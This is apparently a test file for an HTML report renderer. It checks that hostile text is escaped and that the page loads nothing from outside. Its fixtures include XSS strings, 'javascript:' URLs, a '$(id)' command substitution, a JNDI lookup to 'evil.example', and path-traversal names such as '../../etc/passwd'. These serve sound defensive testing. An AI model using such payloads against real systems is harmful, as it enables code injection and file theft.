import { reportHtml } from '../../../runner/report/html.ts';
import { pageOf, type Piece } from '../../../runner/report/page.ts';
import { EVERYTHING, GITLAB, HOSTILE, HOSTILE_REPORT, manyProjects, project, report } from './fixture.ts';

const everything = reportHtml(pageOf(EVERYTHING));
const hostile = reportHtml(pageOf(HOSTILE_REPORT));

function all(html: string, pattern: RegExp): string[] {
  return [...new Set([...html.matchAll(pattern)].map(([match, group]) => group ?? match))].sort();
}

/** A page with nothing but one piece. */
function cellOf(piece: Piece): string {
  const section = { id: 'one', title: 'One', note: '', forPeople: false, columns: ['Project', 'Cell'], rows: [[[{ text: 'a' }], [piece]]], idle: null };
  return reportHtml({ tone: 'good', verdict: '', alerts: [], facts: [], counts: [], since: [], sections: [section] }).match(/<td>(.*)<\/td>/)![1]!;
}

it.each<[keyof typeof HOSTILE, string]>([
  ['script', '&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['attribute', '&quot; onmouseover=&quot;alert(1)&apos; x=&apos;'],
  ['shell', '$(id) <code>id</code> ${jndi:ldap://evil.example/a}'],
  ['lines', 'first /merge # heading | a | b |'],
  ['rightToLeft', 'abcgpj.exe'],
  ['emoji', '🚀 👩👩👧 :tada:'],
  ['long', 'x'.repeat(300)],
  ['references', '@all #1 !1 &amp;1 ~bug %1 $1 ^1 [vulnerability:1] GL-123'],
  ['controls', 'red '],
  ['broken', 'half \ufffd a rocket, &amp;amp; &amp;#106; &amp;copy;'],
  ['blank', '  '],
])('writes %s as text', (name, expected) => {
  expect(cellOf({ text: HOSTILE[name]! })).toBe(expected);
});

it.each<[string, Piece, string]>([
  ['a link', { text: '!1 <b>', url: `${GITLAB}/a"b` }, `<a href="${GITLAB}/a%22b" rel="noreferrer">!1 &lt;b&gt;</a>`],
  ['an address with &', { text: 'x', url: `${GITLAB}/?a=1&lt=2'` }, `<a href="${GITLAB}/?a=1&amp;lt=2%27" rel="noreferrer">x</a>`],
  ['a link without a name', { text: '\u200b', url: GITLAB }, `<a href="${GITLAB}/" rel="noreferrer">link</a>`],
  ['an address that is no link', { text: 'x', url: 'javascript:alert(1)' }, 'x'],
  ['a log', { text: 'log', file: 'logs/batch-001.ndjson' }, '<a href="logs/batch-001.ndjson">log</a>'],
  ['a log of a shard', { text: 'log', file: '../report-2/logs/batch-001.ndjson' }, '<a href="../report-2/logs/batch-001.ndjson">log</a>'],
  ['a log of nothing', { text: 'log', file: '..' }, 'log'],
  ['a log whose name looks like an address', { text: 'log', file: 'javascript:alert(1)' }, '<a href="javascript%3Aalert(1)">log</a>'],
  ['a log with an address for a name', { text: 'log', file: 'https://evil.example' }, 'log'],
  ['a log elsewhere', { text: 'log', file: '../../etc/passwd' }, 'log'],
  ['a log at the root', { text: 'log', file: '/etc/passwd' }, 'log'],
  ['a tag', { tag: '<i>', text: 'x' }, '<b>&lt;i&gt;</b> x'],
  ['an explanation', { text: 'x', soft: true }, '<small>x</small>'],
  ['a bar', { text: 'x', share: 1 / 3 }, 'x<i style="--share:33%"></i>'],
])('%s', (_name, piece, expected) => {
  expect(cellOf(piece)).toBe(expected);
});

it('hostile text adds no element, no attribute and no address', () => {
  expect(all(hostile, /<([a-z0-9]+)/g)).toEqual([...all(everything, /<([a-z0-9]+)/g), 'details', 'span', 'summary'].sort());
  expect(all(hostile, /<[a-z0-9]+ ([a-z-]+)=/g)).toEqual(all(everything, /<[a-z0-9]+ ([a-z-]+)=/g));
  expect(hostile.match(/<script/g)).toHaveLength(1);
  expect(all(hostile, /href="([a-z]+:\/*[^/"]*)/g)).toEqual([GITLAB]);
  expect(hostile).toContain(`href="${GITLAB}/a%22%3E%3Cscript%3Ealert(1)%3C/script%3E|(x)"`);
  expect(hostile).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  expect(hostile.isWellFormed()).toBe(true);
});

it('fetches nothing and tells nobody where it was opened', () => {
  expect(everything).toContain(`content="default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"`);
  expect(all(everything, /\s(?:src|srcset|action|data)=/g)).toEqual([]);
  expect(all(everything, /url\(|@import|fetch\(|import\(/g)).toEqual([]);
  expect(everything.match(/href="http/g)).toHaveLength(everything.match(/ rel="noreferrer"/g)!.length);
});

it('is whole without its script', () => {
  expect(all(everything, /<[a-z]+[^>]* hidden>/g)).toEqual(['<label id="search" hidden>']);
});

it('tables have headers, and every jump has a target', () => {
  expect(everything.match(/<table/g)).toHaveLength(everything.match(/<thead><tr><th scope="col">/g)!.length);
  expect(everything.match(/<tr>/g)).toHaveLength(everything.match(/<tr><th scope="(?:row|col)">/g)!.length);
  expect(all(everything, /href="#([a-z]+)"/g).filter((id) => !everything.includes(`<section id="${id}"`))).toEqual([]);
  expect(all(everything, /aria-labelledby="([a-z-]+)"/g).filter((id) => !everything.includes(` id="${id}"`))).toEqual([]);
});

it.each<[string, string, string]>([
  ['where nothing is to do', reportHtml(pageOf(report([project('a')]))), '<p class="calm">Nothing needs a person.</p>'],
  ['where nothing was run', reportHtml(pageOf(report([]))), '<h1>No project was run, and nothing waits for a person.</h1>'],
  ['where nothing changed', reportHtml(pageOf(report([], { previous: report([]) }))), '<p>Since the run of 2026-03-02 04:00 UTC nothing of this has changed.</p>'],
])('a page %s', (_name, html, expected) => {
  expect(html).toContain(expected);
});

describe('2,000 projects', () => {
  const many = reportHtml(pageOf(manyProjects(2000)));

  it('fit into 2 MB', () => {
    expect(Buffer.byteLength(many)).toBeLessThan(2_000_000);
  });

  it('are folded where they are many or idle', () => {
    expect(all(many, /<summary>(.*)<\/summary>/g)).toEqual(['1300 more projects with nothing to do', '600 more', '650 more', '718 more']);
  });
});
